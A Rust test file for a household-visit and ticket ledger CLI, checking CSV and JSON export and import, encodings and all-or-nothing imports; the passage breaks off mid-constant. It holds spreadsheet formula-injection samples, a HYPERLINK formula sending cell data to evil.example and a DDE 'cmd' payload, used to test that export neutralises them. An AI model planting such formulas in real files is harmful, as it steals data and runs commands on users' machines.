//! `export` and `import`: CSV and JSON, round trips between homes, all-or-nothing imports,
//! a station's household ledger as a spreadsheet saves it.

use std::collections::BTreeSet;
use std::path::Path;
use std::time::Instant;

use crate::util::*;
use serde_json::{Value, json};

/// The CSV header of a households export: the keys of a household object, in order.
/// (`VISIT_KEYS` and `TICKET_KEYS` are those of the other two.)
const HOUSEHOLD_COLUMNS: [&str; 11] = [
    "id",
    "address",
    "grid",
    "residents",
    "tags",
    "phone",
    "note",
    "added_at",
    "last_visit",
    "next_due",
    "overdue",
];

fn col(columns: &[&str], name: &str) -> usize {
    columns
        .iter()
        .position(|c| *c == name)
        .unwrap_or_else(|| panic!("no column {name}"))
}

const NOTE: &str = "张阿姨说：\"楼道灯坏了\"，已报修,\n明天再来看看";

/// A home with four visits (one linked to a ticket) and three tickets, in Chinese.
fn populated() -> Home {
    let home = Home::new();
    let t1 = home.open_ticket(
        "楼道灯坏了，晚上看不见",
        &[
            "--category",
            "城市管理",
            "--household",
            "幸福里3号楼201室",
            "--grid",
            "第三网格",
            "--priority",
            "high",
            "--note",
            NOTE,
        ],
    );
    let t2 = home.open_ticket("申请低保", &["--category", "poverty-relief"]);
    home.open_ticket("宣传垃圾分类", &[]);
    home.json(&["ticket", "update", &t2, "--status", "in_progress"]);
    home.json(&["ticket", "update", &t1, "--assign", &home.device_id]);
    home.add_visit(
        "幸福里3号楼201室",
        &[
            "--grid",
            "第三网格",
            "--category",
            "扶贫解困",
            "--note",
            NOTE,
            "--resident",
            "王秀英",
            "--resident",
            "李建国",
            "--needs",
            "需要轮椅",
            "--at",
            "2026-11-01",
            "--ticket",
            &t1,
        ],
    );
    home.add_visit("和平路8号", &["--at", "2026-11-05T09:30:00+08:00"]);
    home.add_visit(
        "建设街12号",
        &[
            "--grid",
            "第一网格",
            "--category",
            "information",
            "--resident",
            "赵六",
            "--at",
            "2026-11-12T10:00:00Z",
        ],
    );
    home.add_visit(
        "Room 5, Block B",
        &["--note", "English, with comma", "--at", "2026-11-20"],
    );
    home
}

fn export(home: &Home, kind: &str, format: &str, extra: &[&str]) -> String {
    let mut args = vec!["export", "--kind", kind, "--format", format];
    args.extend_from_slice(extra);
    home.text(&args)
}

fn import(home: &Home, kind: &str, format: &str, file: &Path) -> Value {
    let path = file.to_str().expect("utf-8 path");
    home.json(&["import", "--kind", kind, "--format", format, path])
}

/// The CSV cell `export` should write for a JSON field.
fn cell(v: &Value) -> String {
    match v {
        Value::Null => String::new(),
        // With the `'` that keeps a spreadsheet from running a formula.
        Value::String(s)
            if looks_like_formula(s)
                || s.strip_prefix('\'')
                    .is_some_and(|r| r.starts_with('\'') || looks_like_formula(r)) =>
        {
            format!("'{s}")
        }
        Value::String(s) => s.clone(),
        Value::Array(_) => v.to_string(),
        other => other.to_string(),
    }
}

fn check_csv_matches(csv: &str, keys: &[&str], list: &[Value]) {
    let rows = parse_csv(csv);
    assert!(!rows.is_empty(), "CSV has no header");
    assert_eq!(rows[0], keys, "CSV header");
    assert_eq!(rows.len() - 1, list.len(), "one row per record:\n{csv}");
    for (row, obj) in rows[1..].iter().zip(list) {
        assert_eq!(
            crate::util::keys(obj),
            sorted(keys),
            "every key is a column"
        );
        assert_eq!(row.len(), keys.len(), "row width: {row:?}");
        for (c, k) in row.iter().zip(keys) {
            match &obj[*k] {
                Value::Array(a) => {
                    let parsed: Value = serde_json::from_str(c)
                        .unwrap_or_else(|e| panic!("{k} cell is not a JSON array ({e}): {c:?}"));
                    assert_eq!(parsed, Value::Array(a.clone()), "{k} cell");
                }
                other => assert_eq!(*c, cell(other), "{k} cell of {obj}"),
            }
        }
    }
}

#[test]
fn export_json_is_the_list() {
    let home = populated();
    for kind in ["visits", "tickets"] {
        let list = home.json(&[if kind == "visits" { "visit" } else { "ticket" }, "list"]);
        let printed: Value = serde_json::from_str(&export(&home, kind, "json", &[]))
            .unwrap_or_else(|e| panic!("export {kind} json is not JSON: {e}"));
        assert_eq!(printed, list, "export --kind {kind} --format json");

        let out = home.scratch(&format!("{kind}.json"));
        export(
            &home,
            kind,
            "json",
            &["--out", out.to_str().expect("utf-8")],
        );
        let written: Value = serde_json::from_slice(&read(&out)).expect("--out file holds JSON");
        assert_eq!(written, list, "export --out {kind}.json");
    }
    assert_eq!(home.visits().len(), 4);
}

#[test]
fn export_csv_has_header_and_one_row_per_record() {
    let home = populated();
    let visits = home.visits();
    let csv = export(&home, "visits", "csv", &[]);
    check_csv_matches(&csv, &VISIT_KEYS, &visits);
    // Spot checks on the cells that need care.
    let rows = parse_csv(&csv);
    assert_eq!(
        rows[1][col(&VISIT_KEYS, "note")],
        NOTE,
        "quotes, commas and newline survive"
    );
    assert_eq!(
        serde_json::from_str::<Value>(&rows[1][col(&VISIT_KEYS, "residents")])
            .expect("residents JSON"),
        json!(["王秀英", "李建国"])
    );
    assert_eq!(
        rows[2][col(&VISIT_KEYS, "grid")],
        "",
        "null grid is an empty cell"
    );

    let tickets = home.tickets();
    let csv = export(&home, "tickets", "csv", &[]);
    check_csv_matches(&csv, &TICKET_KEYS, &tickets);

    let out = home.scratch("tickets.csv");
    export(
        &home,
        "tickets",
        "csv",
        &["--out", out.to_str().expect("utf-8")],
    );
    let file = String::from_utf8(read(&out)).expect("CSV file is UTF-8");
    check_csv_matches(&file, &TICKET_KEYS, &tickets);
}

#[test]
fn export_since_filters_by_instant() {
    let home = populated();
    let households = |v: &Value| -> Vec<String> {
        v.as_array()
            .expect("array")
            .iter()
            .map(|x| x["household"].as_str().expect("household").to_string())
            .collect()
    };
    let since = |s: &str| -> Value {
        serde_json::from_str(&export(&home, "visits", "json", &["--since", s])).expect("json")
    };
    assert_eq!(
        households(&since("2026-11-12")),
        ["建设街12号", "Room 5, Block B"]
    );
    assert_eq!(
        households(&since("2026-11-12T10:00:00Z")),
        ["建设街12号", "Room 5, Block B"]
    );
    assert_eq!(
        households(&since("2026-11-12T10:00:01Z")),
        ["Room 5, Block B"]
    );
    // 2026-11-05T09:30:00+08:00 is 01:30Z on the 5th.
    assert_eq!(
        households(&since("2026-11-05T01:30:00Z")),
        ["和平路8号", "建设街12号", "Room 5, Block B"]
    );
    assert_eq!(since("2027-01-01"), json!([]));

    let csv = export(&home, "visits", "csv", &["--since", "2026-11-12"]);
    let rows = parse_csv(&csv);
    assert_eq!(rows.len(), 3, "header and two rows:\n{csv}");
    assert_eq!(rows[0], VISIT_KEYS);
    let csv = export(&home, "tickets", "csv", &["--since", "2099-01-01"]);
    assert_eq!(parse_csv(&csv), [TICKET_KEYS], "only the header:\n{csv}");
}

/// The fields of a visit that an import keeps.
fn visit_content(v: &Value) -> Value {
    json!([
        v["household"],
        v["grid"],
        v["category"],
        v["note"],
        v["residents"],
        v["needs"],
        v["visited_at"]
    ])
}

fn ticket_content(t: &Value) -> Value {
    json!([
        t["title"],
        t["status"],
        t["category"],
        t["priority"],
        t["household"],
        t["grid"],
        t["note"],
        t["due"],
        t["overdue"],
        t["channel"],
        t["resolved_at"],
        t["satisfaction"],
        t["rated_at"]
    ])
}

/// The kept fields of each record, as sorted JSON texts.
fn contents(list: &[Value], f: fn(&Value) -> Value) -> Vec<String> {
    let mut c: Vec<String> = list.iter().map(|v| f(v).to_string()).collect();
    c.sort();
    c
}

#[test]
fn import_round_trips_into_another_home() {
    let a = Home::new();
    a.add_visit(
        "幸福里3号楼201室",
        &[
            "--grid",
            "第三网格",
            "--category",
            "扶贫解困",
            "--note",
            NOTE,
            "--resident",
            "王秀英",
            "--resident",
            "李建国",
            "--needs",
            "需要轮椅",
            "--at",
            "2026-11-01",
        ],
    );
    a.add_visit("和平路8号", &["--at", "2026-11-05T09:30:00+08:00"]);
    a.add_visit(
        "建设街12号",
        &["--category", "co-governance", "--resident", "赵六"],
    );
    let t = a.open_ticket(
        "楼道灯坏了，晚上看不见",
        &[
            "--category",
            "城市管理",
            "--household",
            "幸福里3号楼201室",
            "--grid",
            "第三网格",
            "--priority",
            "urgent",
            "--note",
            NOTE,
        ],
    );
    a.json(&["ticket", "update", &t, "--status", "resolved"]);
    a.open_ticket("宣传垃圾分类", &[]);
    let visits_a = a.visits();
    let tickets_a = a.tickets();
    let old_ids: BTreeSet<String> = visits_a
        .iter()
        .chain(&tickets_a)
        .map(|v| v["id"].as_str().expect("id").to_string())
        .collect();

    for format in ["csv", "json"] {
        let b = Home::new();
        for (kind, n) in [("visits", visits_a.len()), ("tickets", tickets_a.len())] {
            let file = a.scratch(&format!("{kind}.{format}"));
            export(&a, kind, format, &["--out", file.to_str().expect("utf-8")]);
            let answer = import(&b, kind, format, &file);
            assert_eq!(answer, json!({"imported": n}), "import {kind} {format}");
        }
        // Compared as sorted lists: records made in the same second may list in either
        // order.
        let visits_b = b.visits();
        assert_eq!(
            contents(&visits_b, visit_content),
            contents(&visits_a, visit_content),
            "visits after a {format} round trip"
        );
        let tickets_b = b.tickets();
        assert_eq!(
            contents(&tickets_b, ticket_content),
            contents(&tickets_a, ticket_content),
            "tickets after a {format} round trip"
        );
        for v in &visits_b {
            assert_eq!(v["author"], b.device_id.as_str(), "imported visit author");
            let id = v["id"].as_str().expect("id");
            assert!(is_hex(id, 32));
            assert!(!old_ids.contains(id), "import reused id {id}");
        }
        for t in &tickets_b {
            assert_eq!(t["opened_by"], b.device_id.as_str(), "imported opened_by");
            let id = t["id"].as_str().expect("id");
            assert!(is_hex(id, 32));
            assert!(!old_ids.contains(id), "import reused id {id}");
        }
        // Imported records are ordinary records of this node: they can be shown and
        // changed, and they are signed.
        let first = visits_b[0]["id"].as_str().expect("id").to_string();
        b.json(&["visit", "edit", &first, "--note", "导入后修改"]);
        assert_eq!(b.visit(&first)["note"], "导入后修改");
        let verify = b.json(&["verify"]);
        assert_eq!(verify["bad"], 0, "{verify}");
    }
}

#[test]
fn import_into_the_same_home_adds_new_records() {
    let home = populated();
    let before = home.visits();
    let file = home.scratch("v.json");
    export(
        &home,
        "visits",
        "json",
        &["--out", file.to_str().expect("utf-8")],
    );
    // The source has a ticket link; import what list prints minus the links.
    let mut objects = serde_json::from_slice::<Value>(&read(&file)).expect("json");
    for o in objects.as_array_mut().expect("array") {
        o["tickets"] = json!([]);
    }
    std::fs::write(&file, objects.to_string()).expect("write");
    assert_eq!(
        import(&home, "visits", "json", &file),
        json!({"imported": before.len()})
    );
    let after = home.visits();
    assert_eq!(after.len(), 2 * before.len());
    let ids: BTreeSet<&str> = after
        .iter()
        .map(|v| v["id"].as_str().expect("id"))
        .collect();
    assert_eq!(ids.len(), after.len(), "ids are unique after import");
}

/// Runs an import from `dir` with a relative file name (so no digits of a temp path can
/// appear in the message) and returns stderr, asserting exit 1 and one error line.
fn failed_import(home: &Home, dir: &Path, kind: &str, format: &str, name: &str) -> String {
    let args = ["import", "--kind", kind, "--format", format, name];
    let out = home
        .command(true, &args)
        .current_dir(dir)
        .output()
        .expect("run");
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(
        out.status.code(),
        Some(1),
        "bad import must fail with exit 1; stderr: {stderr}"
    );
    assert!(
        out.stdout.iter().all(u8::is_ascii_whitespace),
        "failed import printed on stdout: {:?}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert_one_error_line(&stderr, &args);
    stderr
}

fn numbers(s: &str) -> Vec<u64> {
    s.split(|c: char| !c.is_ascii_digit())
        .filter(|w| !w.is_empty())
        .filter_map(|w| w.parse().ok())
        .collect()
}

#[test]
fn a_bad_row_imports_nothing_and_is_named() {
    let home = populated();
    let dir = home.scratch("in");
    std::fs::create_dir(&dir).expect("mkdir");
    let before = home.snapshot();
    // Row 37 of 50 (line 38 of the file, counting the header) is bad.
    let bad_at = 36;
    let breakers: [(&str, &str, &str); 5] = [
        ("category", "养老服务", "unknown category"),
        ("category", "Poverty", "unknown category slug"),
        ("visited_at", "2026-13-45", "bad month"),
        ("visited_at", "last tuesday", "bad time"),
        ("household", "", "empty household"),
    ];
    for (name, value, what) in breakers {
        let col = col(&VISIT_KEYS, name);
        let mut rows = vec![VISIT_KEYS.iter().map(|s| s.to_string()).collect()];
        let mut data = generated_visit_rows("坏", 50);
        data[bad_at][col] = value.to_string();
        rows.extend(data);
        std::fs::write(dir.join("bad.csv"), write_csv(&rows)).expect("write");
        let stderr = failed_import(&home, &dir, "visits", "csv", "bad.csv");
        let n = numbers(&stderr);
        assert!(
            n.contains(&37) || n.contains(&38),
            "{what}: the message should name row 37 (line 38): {stderr}"
        );
        assert_eq!(home.snapshot(), before, "{what}: something was imported");

        // The same as JSON objects.
        let objects: Vec<Value> = rows[1..]
            .iter()
            .map(|r| {
                let mut o = serde_json::Map::new();
                for (k, c) in VISIT_KEYS.iter().zip(r) {
                    let v = match *k {
                        "residents" | "tickets" => serde_json::from_str(c).expect("array"),
                        "household_id" | "grid" | "category" | "note" | "needs" if c.is_empty() => {
                            Value::Null
                        }
                        _ => Value::String(c.clone()),
                    };
                    o.insert(k.to_string(), v);
                }
                Value::Object(o)
            })
            .collect();
        std::fs::write(dir.join("bad.json"), Value::Array(objects).to_string()).expect("write");
        let stderr = failed_import(&home, &dir, "visits", "json", "bad.json");
        let n = numbers(&stderr);
        assert!(
            n.contains(&36) || n.contains(&37),
            "{what}: the message should name object 37 (index 36): {stderr}"
        );
        assert_eq!(
            home.snapshot(),
            before,
            "{what}: something was imported (json)"
        );
    }

    // Tickets: an empty title or an unknown status in row 37.
    for (col, value) in [(1, ""), (2, "done"), (3, "养老服务"), (4, "十万火急")] {
        let header = [
            "id",
            "title",
            "status",
            "category",
            "priority",
            "household",
            "grid",
            "assignee",
            "opened_by",
            "opened_at",
            "note",
        ];
        let mut rows = vec![header.iter().map(|s| s.to_string()).collect::<Vec<_>>()];
        for i in 0..50 {
            rows.push(vec![
                fake_hex(i + 100, 32),
                format!("工单{i}"),
                "open".into(),
                "city-management".into(),
                "normal".into(),
                String::new(),
                String::new(),
                String::new(),
                fake_hex(9, 64),
                generated_time(i as usize),
                String::new(),
            ]);
        }
        rows[bad_at + 1][col] = value.to_string();
        std::fs::write(dir.join("bad.csv"), write_csv(&rows)).expect("write");
        let stderr = failed_import(&home, &dir, "tickets", "csv", "bad.csv");
        let n = numbers(&stderr);
        assert!(
            n.contains(&37) || n.contains(&38),
            "ticket column {col} = {value:?}: the message should name row 37: {stderr}"
        );
        assert_eq!(home.snapshot(), before, "tickets: something was imported");
    }
}

#[test]
fn unreadable_import_files_are_refused() {
    let home = populated();
    let dir = home.scratch("in");
    std::fs::create_dir(&dir).expect("mkdir");
    let before = home.snapshot();
    failed_import(&home, &dir, "visits", "csv", "missing.csv");
    std::fs::write(dir.join("x.json"), "[{\"household\": \"甲\"").expect("write");
    failed_import(&home, &dir, "visits", "json", "x.json");
    // A tickets file is not a visits file (it has no household column).
    export(
        &home,
        "tickets",
        "csv",
        &["--out", dir.join("t.csv").to_str().expect("utf-8")],
    );
    failed_import(&home, &dir, "visits", "csv", "t.csv");
    std::fs::write(dir.join("v.json"), "{\"household\": \"甲\"}").expect("write");
    failed_import(&home, &dir, "visits", "json", "v.json");
    assert_eq!(home.snapshot(), before);
}

#[test]
fn import_ten_thousand_visits() {
    const N: usize = 10_000;
    let home = Home::new();
    let file = home.scratch("many.csv");
    std::fs::write(&file, generated_visits_csv("万", N)).expect("write csv");

    let start = Instant::now();
    let answer = import(&home, "visits", "csv", &file);
    eprintln!("import of {N} visits took {:?}", start.elapsed());
    assert_eq!(answer, json!({"imported": N}));

    let start = Instant::now();
    let visits = home.visits();
    eprintln!("visit list of {N} visits took {:?}", start.elapsed());
    assert_eq!(visits.len(), N);
    let expected: BTreeSet<String> = (0..N).map(|i| generated_household("万", i)).collect();
    let got: BTreeSet<String> = visits
        .iter()
        .map(|v| v["household"].as_str().expect("household").to_string())
        .collect();
    assert_eq!(got, expected, "every imported household is listed once");
    // Generated times increase with the row, so the list is in file order.
    let rows = generated_visit_rows("万", N);
    for i in [0, 1, 4_999, N - 1] {
        let v = &visits[i];
        let cell = |k: &str| rows[i][col(&VISIT_KEYS, k)].as_str();
        assert_eq!(v["household"], cell("household"));
        assert_eq!(v["grid"], cell("grid"));
        assert_eq!(v["category"], cell("category"));
        assert_eq!(v["note"], cell("note"));
        assert_eq!(
            v["residents"],
            serde_json::from_str::<Value>(cell("residents")).expect("json")
        );
        let needs = if cell("needs").is_empty() {
            Value::Null
        } else {
            Value::String(cell("needs").to_string())
        };
        assert_eq!(v["needs"], needs);
        assert_eq!(v["visited_at"], cell("visited_at"));
        assert_eq!(v["author"], home.device_id.as_str());
    }
    let grid2 = home.json(&["visit", "list", "--grid", "第2网格"]);
    assert_eq!(grid2.as_array().map(Vec::len), Some(N / 5));
}

#[test]
fn identical_rows_import_as_separate_records() {
    let home = Home::new();
    let mut rows = vec![VISIT_KEYS.iter().map(|s| s.to_string()).collect::<Vec<_>>()];
    let row = generated_visit_rows("同", 1).remove(0);
    rows.push(row.clone());
    rows.push(row);
    let file = home.scratch("twice.csv");
    std::fs::write(&file, write_csv(&rows)).expect("write");
    assert_eq!(
        import(&home, "visits", "csv", &file),
        json!({"imported": 2})
    );
    let visits = home.visits();
    assert_eq!(visits.len(), 2);
    assert_ne!(visits[0]["id"], visits[1]["id"]);
    assert_eq!(visit_content(&visits[0]), visit_content(&visits[1]));
}

#[test]
fn export_json_under_the_json_flag_is_one_value() {
    let home = populated();
    let printed = home.json(&["export", "--kind", "visits", "--format", "json"]);
    assert_eq!(printed, home.json(&["visit", "list"]));
    let printed = home.json(&["export", "--kind", "tickets", "--format", "json"]);
    assert_eq!(printed, home.json(&["ticket", "list"]));
}

#[test]
fn export_to_a_missing_directory_fails() {
    let home = populated();
    let out = home.scratch("no/such/dir/visits.csv");
    let path = out.to_str().expect("utf-8");
    home.error(&[
        "export", "--kind", "visits", "--format", "csv", "--out", path,
    ]);
    assert!(!out.exists());
}

// ---------------------------------------------------------------------------------------
// Files for spreadsheets: formulas, byte order mark, GB 18030; and what an import refuses.
// ---------------------------------------------------------------------------------------

/// The ticket title that, written as it is, a spreadsheet runs as a formula.
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?d=\"&B2,\"点我\")";

/// Whether a spreadsheet program could take a cell for a formula.
fn looks_like_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A CSV file as `export` writes it, read with the `csv` crate: asserts it begins with the
/// UTF-8 byte order mark, and returns the header and the rows.
fn read_exported(path: &Path) -> (Vec<String>, Vec<Vec<String>>) {
    let bytes = read(path);
    assert!(
        bytes.starts_with(b"\xEF\xBB\xBF"),
        "{} does not begin with a UTF-8 byte order mark: {:?}",
        path.display(),
        &bytes[..bytes.len().min(8)]
    );
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let header = reader
        .headers()
        .expect("header")
        .iter()
        .map(str::to_string)
        .collect();
    let rows = reader
        .records()
        .map(|r| r.expect("row").iter().map(str::to_string).collect())
        .collect();
    (header, rows)
}

fn export_to(home: &Home, kind: &str, format: &str, file: &Path) {
    export(
        home,
        kind,
        format,
        &["--out", file.to_str().expect("utf-8")],
    );
}

/// Two days of use with text that begins like a formula, then an export to CSV: no cell
/// can run in a spreadsheet, the file opens as UTF-8, and importing it gives the same text.
#[test]
fn csv_export_is_safe_in_a_spreadsheet_and_imports_back_to_the_same_text() {
    let home = Home::new();
    // Day one: a ticket whose title is a formula, a visit linked to it, another ticket.
    let t1 = home.open_ticket(FORMULA, &["--grid", "和平里", "--note=-5 元的补贴没到账"]);
    let v1 = home.add_visit(
        "+86 幸福里3号楼",
        &[
            "--grid",
            "和平里",
            "--note",
            "@王主任 请看",
            "--resident=-李四",
            "--needs",
            "\t=1+1",
            "--ticket",
            &t1,
            "--at",
            "2026-11-30T09:00:00+08:00",
        ],
    );
    let t2 = home.open_ticket("'=已经带引号", &["--grid", "和平里"]);
    home.json(&["ticket", "comment", &t1, "=cmd|' /C calc'!A0"]);
    // Day two: edits to both kinds, and one more visit.
    home.json(&["visit", "edit", &v1, "--note", "=SUM(A1:A9)"]);
    home.json(&["ticket", "update", &t2, "--status", "in_progress"]);
    home.add_visit(
        "'@和平里5号",
        &[
            "--grid",
            "和平里",
            "--note",
            "\r\n回车开头",
            "--at",
            "2026-12-01",
        ],
    );
    home.json(&["ticket", "update", &t1, "--priority", "high"]);

    let visits = home.visits();
    let tickets = home.tickets();
    let vfile = home.scratch("visits.csv");
    let tfile = home.scratch("tickets.csv");
    export_to(&home, "visits", "csv", &vfile);
    export_to(&home, "tickets", "csv", &tfile);

    let (header, rows) = read_exported(&tfile);
    assert_eq!(header, TICKET_KEYS);
    let title = col(&TICKET_KEYS, "title");
    let formula_row = rows
        .iter()
        .find(|r| r[0] == t1)
        .expect("the formula ticket is exported");
    assert_eq!(formula_row[title], format!("'{FORMULA}"));
    let (vheader, vrows) = read_exported(&vfile);
    assert_eq!(vheader, VISIT_KEYS);
    for row in rows.iter().chain(&vrows) {
        for cell in row {
            assert!(
                !looks_like_formula(cell),
                "a cell a spreadsheet runs: {cell:?}"
            );
        }
    }
    // Stdout carries the same file.
    assert_eq!(
        export(&home, "tickets", "csv", &[]).as_bytes(),
        read(&tfile).as_slice()
    );

    // Into another home: every text as it was.
    let other = Home::new();
    import(&other, "tickets", "csv", &tfile);
    assert_eq!(
        contents(&other.tickets(), ticket_content),
        contents(&tickets, ticket_content)
    );
    // Into the same home (its ticket links hold there): the visits again, text for text.
    assert_eq!(
        import(&home, "visits", "csv", &vfile),
        json!({"imported": visits.len()})
    );
    let after = home.visits();
    assert_eq!(after.len(), 2 * visits.len());
    let mut doubled = contents(&visits, visit_content);
    doubled.extend(contents(&visits, visit_content));
    doubled.sort();
    assert_eq!(contents(&after, visit_content), doubled);
    let relinked = after
        .iter()
        .filter(|v| v["tickets"] == json!([t1.as_str()]))
        .count();
    assert_eq!(
        relinked, 2,
        "the imported visit keeps its link to a ticket held here"
    );
    assert_eq!(home.json(&["verify"])["bad"], 0);
}

/// A CSV file saved by Excel on Chinese Windows (GBK, or GB 18030 for characters beyond
/// it) imports with its Chinese text right; UTF-8 with and without the mark does too.
#[test]
fn gb18030_files_from_excel_import_with_their_chinese_text() {
    let home = Home::new();
    home.add_visit("已有的记录", &["--at", "2026-11-01"]);
    let text = "household,grid,category,note,residents,needs,visited_at\r\n\
                幸福里3号楼201室,第三网格,扶贫解困,\"独居老人，需要轮椅\",\"[\"\"王秀英\"\"]\",冬季取暖补贴,2026-11-20\r\n\
                和平路8号,第一网格,为民服务,吉祥的𠮷字,[],,2026-11-21T09:30:00+08:00\r\n";
    let dir = home.scratch("in");
    std::fs::create_dir(&dir).expect("mkdir");
    // GBK cannot write 𠮷 (U+20BB7); GB 18030 can.
    let gbk_text = text.replace('𠮷', "吉");
    let (gbk, _, lossy) = encoding_rs::GBK.encode(&gbk_text);
    assert!(!lossy);
    let (gb18030, _, lossy) = encoding_rs::GB18030.encode(text);
    assert!(!lossy);
    for bytes in [&gbk[..], &gb18030[..]] {
        assert!(
            std::str::from_utf8(bytes).is_err(),
            "the test file is UTF-8"
        );
    }
    let utf8_bom = [b"\xEF\xBB\xBF".as_slice(), text.as_bytes()].concat();
    let files: [(&str, &[u8], &str); 4] = [
        ("gbk.csv", &gbk, "吉祥的吉字"),
        ("gb18030.csv", &gb18030, "吉祥的𠮷字"),
        ("utf8-bom.csv", &utf8_bom, "吉祥的𠮷字"),
        ("utf8.csv", text.as_bytes(), "吉祥的𠮷字"),
    ];
    for (name, bytes, second_note) in files {
        let file = dir.join(name);
        std::fs::write(&file, bytes).expect("write");
        let before: BTreeSet<String> = home.visits().iter().map(id_of).collect();
        assert_eq!(
            import(&home, "visits", "csv", &file),
            json!({"imported": 2}),
            "{name}"
        );
        let visits: Vec<Value> = home
            .visits()
            .into_iter()
            .filter(|v| !before.contains(&id_of(v)))
            .collect();
        assert_eq!(visits.len(), 2, "{name}");
        let first = visits
            .iter()
            .find(|v| v["household"] == "幸福里3号楼201室")
            .expect("first row");
        assert_eq!(first["grid"], "第三网格", "{name}");
        assert_eq!(first["category"], "poverty-relief", "{name}");
        assert_eq!(first["note"], "独居老人，需要轮椅", "{name}");
        assert_eq!(first["residents"], json!(["王秀英"]), "{name}");
        assert_eq!(first["needs"], "冬季取暖补贴", "{name}");
        let second = visits
            .iter()
            .find(|v| v["household"] == "和平路8号")
            .expect("second row");
        assert_eq!(second["note"], second_note, "{name}");
        assert_eq!(second["grid"], "第一网格", "{name}");
    }
    // Bytes that are neither are refused, naming neither a row nor garbage text.
    std::fs::write(
        dir.join("bad.csv"),
        [b"\xEF\xBB\xBFhousehold\n".as_slice(), b"\xff\xfe\n"].concat(),
    )
    .expect("write");
    let before = home.snapshot();
    failed_import(&home, &dir, "visits", "csv", "bad.csv");
    assert_eq!(home.snapshot(), before);
}

/// A day of records, then imports that must be refused whole: a visit linking a ticket
/// this node does not hold, a row without its time, times before 2000 or ahead of the
/// clock. Each is exit 1 with one line naming the row, and `visit list` is as before.
#[test]
fn imports_of_dangling_links_and_missing_or_impossible_times_are_refused() {
    // Another node's export: a visit linked to one of its tickets.
    let a = Home::new();
    let ta = a.open_ticket("楼道灯坏了", &["--grid", "和平里"]);
    a.add_visit("和平里1号", &["--grid", "和平里", "--at", "2026-11-20"]);
    a.add_visit(
        "和平里2号",
        &["--grid", "和平里", "--ticket", &ta, "--at", "2026-11-21"],
    );
    let linked = a.scratch("linked.csv");
    export_to(&a, "visits", "csv", &linked);

    // This node's day: both kinds of record, interleaved, with an edit.
    let b = Home::new();
    let tb = b.open_ticket("申请低保", &["--grid", "光明街"]);
    let vb = b.add_visit("光明街3号", &["--grid", "光明街", "--ticket", &tb]);
    b.json(&["ticket", "comment", &tb, "材料已交"]);
    b.json(&["visit", "edit", &vb, "--note", "下周再来"]);
    let dir = b.scratch("in");
    std::fs::create_dir(&dir).expect("mkdir");
    std::fs::copy(&linked, dir.join("linked.csv")).expect("copy");
    let visits_before = b.json(&["visit", "list"]);
    let before = b.snapshot();

    let stderr = failed_import(&b, &dir, "visits", "csv", "linked.csv");
    assert!(
        stderr.contains(&ta),
        "the message names the ticket: {stderr}"
    );
    assert!(
        numbers(&stderr).contains(&2),
        "the message names row 2: {stderr}"
    );

    let header = VISIT_KEYS.iter().map(|s| s.to_string()).collect::<Vec<_>>();
    let at = VISIT_KEYS.iter().position(|k| *k == "visited_at").unwrap();
    let ahead = (chrono::Utc::now() + chrono::Duration::days(2))
        .format("%Y-%m-%d")
        .to_string();
    for (value, what) in [
        ("", "empty"),
        ("1900-01-01", "1900"),
        ("1999-12-31T23:59:59Z", "the last second of 1999"),
        (ahead.as_str(), "two days ahead"),
        ("2999-01-01T00:00:00Z", "far ahead"),
    ] {
        let mut rows = vec![header.clone()];
        rows.extend(generated_visit_rows("时", 5));
        rows[4][at] = value.to_string();
        std::fs::write(dir.join("times.csv"), write_csv(&rows)).expect("write");
        let stderr = failed_import(&b, &dir, "visits", "csv", "times.csv");
        assert!(
            numbers(&stderr).contains(&4),
            "{what}: the message should name row 4: {stderr}"
        );
        assert!(stderr.contains("visited_at"), "{what}: {stderr}");
    }
    // A JSON object without `visited_at` at all, and a ticket row without `opened_at`.
    std::fs::write(
        dir.join("no-time.json"),
        json!([{"household": "甲", "visited_at": "2026-11-20"}, {"household": "乙"}]).to_string(),
    )
    .expect("write");
    let stderr = failed_import(&b, &dir, "visits", "json", "no-time.json");
    assert!(stderr.contains("record 2"), "{stderr}");
    std::fs::write(
        dir.join("no-time.csv"),
        "title,opened_at\n甲,2026-11-20\n乙,\n",
    )
    .expect("write");
    let stderr = failed_import(&b, &dir, "tickets", "csv", "no-time.csv");
    assert!(stderr.contains("opened_at"), "{stderr}");

    assert_eq!(
        b.json(&["visit", "list"]),
        visits_before,
        "visit list changed"
    );
    assert_eq!(b.snapshot(), before, "a refused import changed the store");
    // Without the link, the same file imports.
    let mut rows = parse_csv(&String::from_utf8(read(&linked)).expect("utf-8"));
    let links = col(&VISIT_KEYS, "tickets");
    for r in &mut rows[1..] {
        r[links] = "[]".into();
    }
    std::fs::write(dir.join("unlinked.csv"), write_csv(&rows)).expect("write");
    assert_eq!(
        import(&b, "visits", "csv", &dir.join("unlinked.csv")),
        json!({"imported": 2})
    );
}

// ---------------------------------------------------------------------------------------
// Households, and the ticket columns of deadlines, channels and the follow-up call.
// ---------------------------------------------------------------------------------------

/// `export --kind households --format json`: the household objects as `list` prints them.
fn households(home: &Home) -> Vec<Value> {
    array(
        serde_json::from_str(&export(home, "households", "json", &[]))
            .expect("households export is JSON"),
    )
}

/// The fields of a household that an import keeps, and those derived from its visits.
fn household_content(h: &Value) -> Value {
    json!([
        h["address"],
        h["grid"],
        h["residents"],
        h["tags"],
        h["phone"],
        h["note"],
        h["added_at"],
        h["last_visit"],
        h["next_due"],
        h["overdue"]
    ])
}

/// The address and grid of the household whose id is `id`, among `list`.
fn household_of(list: &[Value], id: &Value) -> Value {
    if id.is_null() {
        return Value::Null;
    }
    let h = list
        .iter()
        .find(|h| h["id"] == *id)
        .unwrap_or_else(|| panic!("household_id {id} names no household"));
    json!([h["grid"], h["address"]])
}

/// A station's ledger as Excel saves it: header of the ledger's own columns, CRLF line
/// ends, Chinese tags (several in one cell, in the list form of `residents`), a phone
/// number that begins with `+`, no `added_at`.
const LEDGER: &str = "address,grid,residents,tags,phone,note\r\n\
    幸福里3号楼201室,第三网格,\"[\"\"王秀英\"\",\"\"李建国\"\"]\",\"[\"\"独居老人\"\",\"\"低保户\"\"]\",+86 139 0000 0001,\"腿脚不便，需上门\"\r\n\
    幸福里3号楼202室,第三网格,\"[\"\"赵六\"\"]\",[],,\r\n\
